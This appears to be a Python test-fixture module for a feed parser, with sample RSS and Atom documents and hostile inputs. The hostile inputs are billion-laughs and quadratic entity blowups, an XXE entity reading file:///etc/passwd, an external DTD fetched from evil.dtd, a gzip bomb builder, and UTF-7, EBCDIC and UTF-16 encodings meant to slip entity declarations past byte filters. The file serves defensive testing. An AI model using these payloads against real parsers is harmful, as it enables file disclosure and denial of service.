"""Feed documents used by the tests: small, hand-written, one per format and per attack."""

from __future__ import annotations

import struct
import zlib

RSS2_MEDIA = b"""<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:media="http://search.yahoo.com/mrss/" xmlns:dc="http://purl.org/dc/elements/1.1/">
<channel>
  <title>Expedition 72 album</title>
  <link>https://photos.example.org/album/72</link>
  <description>Photos from orbit</description>
  <item>
    <title>ISS flyaround &amp; docking</title>
    <link>https://photos.example.org/p/1</link>
    <guid isPermaLink="false">photo-1</guid>
    <pubDate>Tue, 03 Jun 2025 12:00:00 +0000</pubDate>
    <description>&lt;p&gt;Seen from &lt;b&gt;Crew Dragon&lt;/b&gt;.&lt;br/&gt;Ping @everyone and &amp;lt;@&amp;amp;123&amp;gt;
      &lt;img src="https://img.example.org/inline.jpg" alt=""&gt;&lt;/p&gt;</description>
    <dc:creator>NASA/Jane Doe</dc:creator>
    <media:content url="https://img.example.org/1_b.jpg" type="image/jpeg" medium="image" width="1024"/>
    <media:content url="https://img.example.org/1.mp4" type="video/mp4" medium="video"/>
    <media:thumbnail url="https://img.example.org/1_t.jpg" width="100" height="75"/>
    <media:credit role="photographer">NASA/Bob Behnken</media:credit>
    <enclosure url="https://img.example.org/1_b.jpg" type="image/jpeg" length="12345"/>
    <enclosure url="https://img.example.org/1_e.png" type="image/png" length="1"/>
    <enclosure url="https://img.example.org/1.mp3" type="audio/mpeg" length="1"/>
  </item>
  <item>
    <title>Aurora group</title>
    <link>https://photos.example.org/p/2</link>
    <pubDate>Mon, 02 Jun 2025 08:30:00 GMT</pubDate>
    <media:group>
      <media:content url="https://img.example.org/2a.jpg" medium="image"/>
      <media:content url="https://img.example.org/2b.png" type="image/png"/>
      <media:thumbnail url="https://img.example.org/2_t.jpg"/>
      <media:credit>ESA/Samantha</media:credit>
    </media:group>
  </item>
  <item>
    <title>Untitled pass</title>
    <description><![CDATA[<p>Night pass <img src="/relative/night.jpg"></p>]]></description>
    <pubDate>Sun, 01 Jun 2025 22:00:00 +0200</pubDate>
  </item>
</channel>
</rss>
"""

RSS1_RDF = b"""<?xml version="1.0" encoding="utf-8"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"
  xmlns:dc="http://purl.org/dc/elements/1.1/">
  <channel rdf:about="https://space.example.org/rss10">
    <title>Space RDF</title>
    <link>https://space.example.org/</link>
    <description>RSS 1.0 sample</description>
    <items><rdf:Seq><rdf:li rdf:resource="https://space.example.org/a"/></rdf:Seq></items>
  </channel>
  <item rdf:about="https://space.example.org/a">
    <title>Starliner update</title>
    <link>https://space.example.org/a</link>
    <description>Crew &lt;i&gt;safe&lt;/i&gt;   and   well.</description>
    <dc:creator>Mission Control</dc:creator>
    <dc:date>2025-06-05T10:15:00+02:00</dc:date>
  </item>
</rdf:RDF>
"""

ATOM = b"""<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xmlns:media="http://search.yahoo.com/mrss/">
  <title type="html">Cupola &lt;b&gt;views&lt;/b&gt;</title>
  <link rel="alternate" href="https://atom.example.org/"/>
  <id>tag:atom.example.org,2025:feed</id>
  <updated>2025-06-06T00:00:00Z</updated>
  <entry>
    <title>Nile delta at night</title>
    <link rel="alternate" href="https://atom.example.org/e/1"/>
    <link rel="enclosure" type="image/jpeg" href="https://atom.example.org/img/1.jpg"/>
    <id>tag:atom.example.org,2025:e1</id>
    <published>2025-06-06T01:02:03+02:00</published>
    <updated>2025-06-06T05:00:00Z</updated>
    <author><name>Astronaut A</name></author>
    <content type="html">&lt;p&gt;City lights &lt;img src="https://atom.example.org/img/inline.jpg"&gt;&lt;/p&gt;</content>
    <media:thumbnail url="https://atom.example.org/img/1_t.jpg"/>
  </entry>
  <entry>
    <title>Updated only</title>
    <link rel="alternate" href="https://atom.example.org/e/2"/>
    <id>tag:atom.example.org,2025:e2</id>
    <updated>2025-06-04T00:00:00Z</updated>
    <summary>Plain summary</summary>
  </entry>
</feed>
"""


def rss(items: list[dict[str, str]], *, title: str = "Test feed") -> bytes:
    """A minimal RSS 2.0 document; each item dict may carry title, link, guid, date, description."""
    parts = [f'<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>{title}</title>']
    for item in items:
        parts.append("<item>")
        for tag, key in (("title", "title"), ("link", "link"), ("guid", "guid"), ("pubDate", "date")):
            if key in item:
                parts.append(f"<{tag}>{item[key]}</{tag}>")
        if "description" in item:
            parts.append(f"<description>{item['description']}</description>")
        parts.append("</item>")
    parts.append("</channel></rss>")
    return "".join(parts).encode("utf-8")


HTML_PAGE = b"""<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>Space news</title>
<link rel="alternate" type="application/rss+xml" href="/feed.xml"></head>
<body><h1>Welcome</h1><p>Our feed is at /feed.xml</p></body></html>
"""

MALFORMED = b"""<?xml version="1.0"?><rss version="2.0"><channel><title>Broken</title>
<item><title>unterminated</ti<<tle></item></channel>"""

NOT_XML = b"this is plain text, not a feed at all"

_LAUGHS = "\n".join(
    f' <!ENTITY lol{i} "{"".join(f"&lol{i - 1};" for _ in range(10))}">' for i in range(1, 10)
)
BILLION_LAUGHS = f"""<?xml version="1.0"?>
<!DOCTYPE rss [
 <!ENTITY lol0 "lol">
{_LAUGHS}
]>
<rss version="2.0"><channel><title>&lol9;</title>
<item><title>&lol9;</title><description>&lol9;</description></item></channel></rss>
""".encode()

_BIG = "A" * 20_000
QUADRATIC_BLOWUP = (
    f'<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY a "{_BIG}">]>\n'
    f'<rss version="2.0"><channel><title>q</title><item><title>x</title><description>{"&a;" * 2000}'
    "</description></item></channel></rss>"
).encode()

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE rss [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<rss version="2.0"><channel><title>x</title>
<item><title>&xxe;</title><description>&xxe;</description></item></channel></rss>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE rss [ <!ENTITY % remote SYSTEM "http://10.0.0.1/evil.dtd"> %remote; ]>
<rss version="2.0"><channel><title>x</title></channel></rss>
"""

LOWERCASE_ENTITY = b"""<?xml version="1.0"?>
<!doctype rss [ <!entity boom "boom"> ]>
<rss version="2.0"><channel><title>&boom;</title><item><title>&boom;</title></item></channel></rss>
"""

INTERNAL_SUBSET_NO_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE rss [ <!ATTLIST item x CDATA "y"> ]>
<rss version="2.0"><channel><title>x</title><item><title>t</title></item></channel></rss>
"""

RSS091_WITH_PUBLIC_DOCTYPE = b"""<?xml version="1.0"?>
<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"
  "http://my.netscape.com/publish/formats/rss-0.91.dtd">
<rss version="0.91"><channel><title>Old</title><link>https://old.example.org/</link>
<description>d</description><language>en</language>
<item><title>Old item</title><link>https://old.example.org/1</link></item></channel></rss>
"""


def utf16(document: bytes) -> bytes:
    """The same document re-encoded as UTF-16 with a BOM (declaration adjusted)."""
    text = document.decode("utf-8").replace(
        '<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-16"?>'
    )
    return text.encode("utf-16")


def gzip_bomb(inflated_mib: int) -> bytes:
    """A valid gzip file that inflates to ``inflated_mib`` MiB of zeros, built in ~1 KiB per MiB.

    Each MiB of zeros is compressed after a full flush, so the compressor starts fresh and every
    block is byte-identical: compress two, repeat the second, then write the real trailer.
    """
    zeros = bytes(1 << 20)
    compressor = zlib.compressobj(9, zlib.DEFLATED, 31)
    first = compressor.compress(zeros) + compressor.flush(zlib.Z_FULL_FLUSH)
    block = compressor.compress(zeros) + compressor.flush(zlib.Z_FULL_FLUSH)
    final_block = compressor.flush(zlib.Z_FINISH)[:-8]  # the empty last block, without trailer
    crc = 0
    for _ in range(inflated_mib):
        crc = zlib.crc32(zeros, crc)
    trailer = struct.pack("<II", crc, (inflated_mib << 20) & 0xFFFFFFFF)
    return first + block * (inflated_mib - 1) + final_block + trailer


# --------------------------------------------------------------------------------------------- encodings
# A byte search for "<!ENTITY" misses all of these: the parser only sees the markup once it has
# decoded the document the way the declaration, the BOM or the HTTP charset tells it to.


def _declared(document: bytes, encoding: str) -> str:
    text = document.decode("utf-8")
    return text.replace('<?xml version="1.0"?>', f'<?xml version="1.0" encoding="{encoding}"?>', 1)


def utf7(document: bytes) -> bytes:
    """Declared UTF-7 with every ``<!`` and ``[`` written in base64 (``+ADwAIQ-``, ``+AFs-``)."""
    head, _, body = _declared(document, "utf-7").partition("?>")
    body = body.replace("<!", "+ADwAIQ-").replace("[", "+AFs-")
    return (head + "?>" + body).encode("ascii")


def ebcdic(document: bytes, codec: str = "cp037") -> bytes:
    """The whole document in an EBCDIC code page, declaration included (sniffed from ``<?xm``)."""
    return _declared(document, codec).encode(codec)


def encoded(document: bytes, codec: str, *, bom: bool = True) -> bytes:
    """Declared and encoded with ``codec``; for UTF-16/32 with or without a byte-order mark."""
    text = _declared(document, codec.split("-le")[0].split("-be")[0])
    data = text.encode(codec)
    if not bom and data[:4] in (b"\xff\xfe\x00\x00", b"\x00\x00\xfe\xff"):
        return data[4:]
    if not bom and data[:2] in (b"\xff\xfe", b"\xfe\xff"):
        return data[2:]
    return data


# The declaration form feedparser's lenient parser really expands: an ENTITY on its own line after
# the DOCTYPE ("simple": no nested references). Expat refuses the amplification; the fallback doesn't.
SIMPLE_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE rss>
<!ENTITY boom "EXPANDED-ENTITY">
<rss version="2.0"><channel><title>&boom;</title>
<item><title>&boom;</title><guid>g1</guid><description>&boom;</description></item></channel></rss>
"""


def loose_blowup(value_kib: int = 20, references: int = 2000) -> bytes:
    """A ``value_kib`` KiB entity referenced ``references`` times: value x references when expanded."""
    return (
        b'<?xml version="1.0"?>\n<!DOCTYPE rss>\n<!ENTITY a "' + b"A" * (value_kib * 1024) + b'">\n'
        b'<rss version="2.0"><channel><title>q</title><item><title>x</title><guid>g</guid><description>'
        + b"&a;" * references
        + b"</description></item></channel></rss>\n"
    )
